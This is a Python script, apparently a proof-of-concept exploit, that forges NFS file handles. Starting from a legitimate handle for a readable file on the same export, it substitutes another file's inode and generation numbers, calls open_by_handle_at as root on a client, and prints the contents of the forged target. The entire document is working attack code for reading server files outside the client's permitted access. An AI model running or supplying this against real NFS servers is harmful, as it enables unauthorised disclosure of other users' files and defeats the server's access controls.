"""Opens a file of an NFS server by a handle that was made up: `forge.py FILE INODE GENERATION`, as root of a client.

FILE is one that the client may read, on the same export; INODE and GENERATION are of a different file of the server's
file system, in decimal. What that has is printed; the exit status is 1, with the error's name, when it is refused.
"""

import ctypes
import errno
import os
import struct
import sys
from typing import Final

_LONGEST: Final = 128  # bytes
_HEAD: Final = 8  # bytes of `struct file_handle`: length, type
_OURS: Final = 14  # bytes in the client's handle before the server's: an inode number, a type, a length
_KINDS: Final = 4  # bytes of the server's handle before its file system: version, and the kinds of what follows
# How the file system is named, by kind, and in how many bytes (linux/fs/nfsd/nfsfh.h).
_NAMED: Final = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}


def main() -> None:
    """Try both kinds of handle: that of a file alone, and that of a file in a folder."""
    file, inode, generation = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", _LONGEST, 0) + b"\0" * _LONGEST, _HEAD + _LONGEST)
    folder = os.open(os.path.dirname(file), os.O_RDONLY)  # noqa: PTH120
    if libc.name_to_handle_at(-100, file.encode(), handle, ctypes.byref(ctypes.c_int()), 0) != 0:
        sys.exit(f"no handle: {os.strerror(ctypes.get_errno())}")
    (length,) = struct.unpack_from("I", handle)
    given = bytearray(handle.raw[_HEAD : _HEAD + length])
    start = _OURS + _KINDS + _NAMED[given[_OURS + 2]]
    refused = ""
    for kind in (1, 2):
        forged = bytearray(given)
        forged[0:8] = struct.pack("II", inode >> 32, inode & 0xFFFFFFFF)  # (so that the client knows it for a new file)
        forged[_OURS + 3] = kind
        struct.pack_into("II", forged, start, inode, generation)
        struct.pack_into("H", forged, _OURS - 2, start - _OURS + 8 * kind)
        opened = libc.open_by_handle_at(folder, struct.pack("I", length) + handle.raw[4:8] + bytes(forged), os.O_RDONLY)
        if opened >= 0:
            print(os.read(opened, 1_000).decode(errors="replace"), end="")
            return
        refused = errno.errorcode[ctypes.get_errno()]
    sys.exit(refused)


if __name__ == "__main__":
    main()
